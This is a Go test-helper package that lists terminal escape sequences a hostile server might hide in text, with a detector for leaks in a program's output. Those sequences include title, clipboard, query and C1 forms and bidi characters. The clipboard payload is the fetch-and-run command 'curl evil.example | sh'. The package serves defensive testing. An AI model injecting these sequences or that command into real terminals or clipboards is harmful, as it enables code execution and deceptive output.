// Package hostile is what a hostile server hides in the text it sends, for
// the tests that prove none of it reaches a terminal, a clipboard or a
// file: the escape sequences of issue 10 (window title, clipboard write,
// screen clear, hyperlink, the cursor-position and DCS queries whose answers
// a terminal types back as input), their 8-bit C1 forms, and the Unicode
// characters that reorder or hide text. Each sequence follows a marker
// ("@0@" for the first), so a sequence that leaked is found in a program's output
// even where the program itself writes the same bytes (Bubble Tea clears
// the screen with ESC [2J, termenv asks ESC [6n).
package hostile

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"strconv"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Sequence is one thing a hostile server sends.
type Sequence struct {
	Name  string
	Bytes string
}

// ClipboardText is what the clipboard sequence would put on the clipboard.
const ClipboardText = "curl evil.example | sh"

// Title is what the title sequences would set the window title to.
const Title = "PWNED"

// Sequences are every sequence, each in the form a terminal acts on.
var Sequences = []Sequence{
	{"title", "\x1b]0;" + Title + "\x07"},
	{"title-st", "\x1b]2;" + Title + "\x1b\\"},
	{"clipboard", "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte(ClipboardText)) + "\x07"},
	{"clear", "\x1b[2J"},
	{"home", "\x1b[H"},
	{"link", "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\"},
	{"cursor-query", "\x1b[6n"},
	{"attributes-query", "\x1b[c"},
	{"dcs-query", "\x1bP$q\"p\x1b\\"},
	{"reset", "\x1bc"},
	{"c1-csi", "\u009b6n"},
	{"c1-osc", "\u009d0;" + Title + "\u009c"},
	{"c1-dcs", "\u0090$q\"p\u009c"},
	{"bidi-override", "\u202e"},
	{"bidi-isolate", "\u2067"},
	{"zero-width", "\u200b"},
	{"bell", "\x07"},
	{"backspace", "\x08\x08\x08"},
	{"newline", "\n\rforged line"},
}

// marker is the text before the i-th sequence in Text.
func marker(i int) string { return "@" + strconv.Itoa(i) + "@" }

// Text is prefix followed by every sequence, each after its marker: what a
// hostile server puts in one field.
func Text(prefix string) string {
	var b strings.Builder
	b.WriteString(prefix)
	for i, s := range Sequences {
		b.WriteString(marker(i) + s.Bytes)
	}
	return b.String()
}

// Leaks lists what in out (bytes written to a terminal, a file, a
// clipboard) came from Text: each sequence found right after its marker,
// any C1 control character, and any character that reorders or hides text
// (bidi controls, zero-width and other format characters). Empty when out
// is safe.
func Leaks(out []byte) []string {
	var found []string
	for i, s := range Sequences {
		if bytes.Contains(out, []byte(marker(i)+s.Bytes)) {
			found = append(found, "sequence "+s.Name)
		}
	}
	for i := 0; i < len(out); {
		r, n := utf8.DecodeRune(out[i:])
		switch {
		case r >= 0x80 && r <= 0x9f:
			found = append(found, fmt.Sprintf("C1 control %U at byte %d", r, i))
		case r != '\u200c' && r != '\u200d' && unicode.Is(unicode.Cf, r):
			found = append(found, fmt.Sprintf("format character %U at byte %d", r, i))
		}
		i += n
	}
	return found
}

// Markers is every marker, in order: a field cleaned of the sequences
// still shows them all, so a test can tell a cleaned field from a dropped one.
func Markers() []string {
	out := make([]string, len(Sequences))
	for i := range Sequences {
		out[i] = marker(i)
	}
	return out
}
